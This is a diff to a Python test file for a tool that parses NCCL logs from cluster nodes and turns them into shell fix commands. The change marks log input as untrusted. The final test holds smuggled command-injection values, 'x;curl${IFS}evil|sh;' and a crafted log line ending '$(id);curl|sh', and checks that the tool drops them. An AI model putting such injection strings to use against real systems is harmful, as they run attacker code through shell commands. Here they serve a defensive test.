@@ -14,13 +14,14 @@ from aboard.core.cluster import Cluster
 from aboard.core.facts import Facts
 from aboard.core.node import Node
 from aboard.diagnoses import Finding, Severity
+from aboard.diagnoses.untrusted import Untrusted
 
 RECORDINGS = Path(__file__).parent / "nccl_logs"
 HEALTHY = ("2.14", "2.18", "2.24", "2.27", "2.30")
 
 
 def _log(name: str) -> NcclLog:
-    return parse_log((RECORDINGS / f"{name}.log").read_text("utf-8").splitlines())
+    return parse_log(Untrusted((RECORDINGS / f"{name}.log").read_text("utf-8")).lines())
 
 
 def _judge(*names: str, ports: Mapping[str, tuple[Port, ...]] | None = None) -> list[Finding]:
@@ -57,12 +58,12 @@ def test_a_healthy_log_of_each_version(version: str) -> None:
     log = _log(f"{version}-infiniband")
     assert log.version.startswith(version)
     assert log.bootstrap == "eth0"
-    assert log.networks == ("IB",)
+    assert log.networks == (Untrusted("IB"),)
     assert log.hcas == ("mlx5_0", "mlx5_1")
     assert not log.no_device
     assert log.direct["mlx5_0"] is True
-    assert log.transports["NET/IB"] >= 1
-    assert log.direct_channels == log.transports["NET/IB"]
+    assert log.transports[Untrusted("NET/IB")] >= 1
+    assert log.direct_channels == log.transports[Untrusted("NET/IB")]
     assert log.warnings == ()
 
 
@@ -86,7 +87,7 @@ def test_the_trap_of_no_device() -> None:
     log = _log("2.24-no-device")
     assert log.no_device
     assert log.hcas == ()
-    assert log.networks == ("Socket",)
+    assert log.networks == (Untrusted("Socket"),)
     assert log.cards == ("eth0", "docker0")
 
 
@@ -109,8 +110,8 @@ def test_sockets_although_ports_are_up() -> None:
 def test_a_plugin_that_was_asked_for() -> None:
     """It is named; the default one that nobody asked for is no finding."""
     log = _log("2.23-plugin-not-found")
-    assert log.absent_plugins == ("ofi libnccl-net-ofi.so", "AWS Libfabric")
-    assert log.wanted_plugins == ("ofi",)
+    assert log.absent_plugins == (Untrusted("ofi libnccl-net-ofi.so"), Untrusted("AWS Libfabric"))
+    assert log.wanted_plugins == (Untrusted("ofi"),)
     findings = _judge("2.23-plugin-not-found", "2.23-plugin-not-found")
     assert _told(findings) == [("collective-plugin", ("n1", "n2"))]
     assert "ofi" in findings[0].seen
@@ -129,7 +130,7 @@ def test_a_topology_file_that_is_not_there() -> None:
     assert _told(findings) == [("collective-topology", ("n2",))]
     assert "/opt/microsoft/ndv4-topo.xml: No such file or directory" in findings[0].seen
     line = "n1:1:1 [0] NCCL INFO Could not open XML topology file /x.xml : Permission denied"
-    assert parse_log([line]).no_topology == "/x.xml: Permission denied"
+    assert parse_log([Untrusted(line)]).no_topology == "/x.xml: Permission denied"
 
 
 def test_topology_files_that_differ() -> None:
@@ -155,11 +156,13 @@ def test_completions_with_errors(name: str, hca: str) -> None:
 @pytest.mark.parametrize("line", ["", "NCCL", "NCCL INFO ", "\x1b[31mNCCL INFO Channel 00", "Channel 00/0 : via"])
 def test_other_lines_are_nobodys_business(line: str) -> None:
     """What isn't NCCL's own, or is cut, leaves nothing."""
-    assert parse_log([line]) == NcclLog()
+    assert parse_log([Untrusted(line)]) == NcclLog()
 
 
 def test_an_adapter_whose_name_is_no_name_stays_out_of_the_fix() -> None:
     """It comes from a node's log, and the fix is for a shell."""
     log = parse_log(())
     assert "/infiniband/mlx5_0/device" in _counters(replace(log, completions={"mlx5_0:1": 1}))
-    assert _counters(replace(log, completions={"x;curl${IFS}evil|sh;": 1})) == ""
+    warning = "n1:1:1 [0] NCCL WARN NET/IB : Got completion from peer 10.0.0.1<1> with error 12 hca $(id);curl|sh"
+    assert parse_log([Untrusted(warning)]).completions == {"": 1}
+    assert _counters(parse_log([Untrusted(warning)])) == ""
